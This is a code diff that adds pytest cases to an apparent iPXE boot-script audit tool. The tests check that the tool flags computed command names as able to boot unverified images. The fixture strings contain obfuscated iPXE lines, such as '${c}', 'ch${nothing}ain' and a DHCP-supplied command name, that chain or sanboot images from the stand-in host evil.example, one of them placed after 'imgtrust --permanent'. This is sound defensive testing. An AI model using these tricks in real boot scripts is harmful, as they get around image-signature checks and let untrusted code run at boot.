@@ -611,6 +611,49 @@ def test_a_command_the_model_does_not_know_does_not_end_the_path(first: str) -> 
     assert "'chain' can execute" in (info.unguarded or ""), info.unguarded
 
 
+# iPXE expands ${...} in every token, the command name included (exec.c: expand_tokens()
+# then execv(argv[0])): each of these chains an unverified image on a real iPXE.
+COMPUTED_NAMES = {
+    "name-from-set": ("set c chain\n${c} https://evil.example/p.efi\n", 3, "${c}"),
+    "empty-setting-inside": ("ch${nothing}ain https://evil.example/p.efi\n", 2,
+                             "ch${nothing}ain"),
+    "name-from-dhcp": ("${209:string} https://evil.example/p.efi\n", 2, "${209:string}"),
+    "behind-imgtrust": ("imgtrust --permanent\nset c sanboot\n${c} https://evil.example/d\n",
+                        4, "${c}"),
+}
+
+
+@pytest.mark.parametrize("name", sorted(COMPUTED_NAMES))
+def test_a_computed_command_name_may_run_an_unverified_image(name: str) -> None:
+    """The model does not track setting values, so a command named by a setting may be
+    chain (or sanboot, which imgtrust does not cover): the script is not guarded. Before,
+    it was taken for an unknown command and the script for a verified one."""
+    from tests.audit.test_checks import fetched, observe, offer, rules
+    from trustboot.audit.policy import Policy
+
+    body, line, word = COMPUTED_NAMES[name]
+    script = f"#!ipxe\n{body}".encode()
+    info = loaders.identify(script)
+    assert info.kind == "ipxe-script" and info.imgverify is False, info
+    says = (f"line {line}: a computed command name '{word}' can run any command, e.g. "
+            "'chain https://evil.example/")
+    assert (info.unguarded or "").startswith(says), info.unguarded
+    assert info.unguarded is not None and info.unguarded.endswith("[computed-command]")
+    found = rules(observe(offers=[offer(file="boot.ipxe")],
+                          fetched=[fetched("192.0.2.1", "boot.ipxe", script)]), Policy())
+    [finding] = found["script-without-imgverify"]
+    assert finding.evidence["unguarded"] == info.unguarded
+
+
+@pytest.mark.parametrize("body", ["goto ${x}\n", "echo ${c} chain\n",
+                                  "set c chain\necho ${c}\n", "${\n"])
+def test_a_setting_outside_the_command_name_is_not_a_computed_command(body: str) -> None:
+    """Only the command word counts: a computed goto target, an expanded argument, and no
+    boot at all stay guarded ('${' alone is a command not found, as before)."""
+    info = loaders.identify(f"#!ipxe\nimgtrust --permanent\n{body}".encode())
+    assert info.imgverify is True and info.unguarded is None, info
+
+
 def _released_scripts() -> dict[str, str]:
     from trustboot.ipxe.script import ChainScript, render_chain_script
     from trustboot.release.render import MenuEntry, render_menu
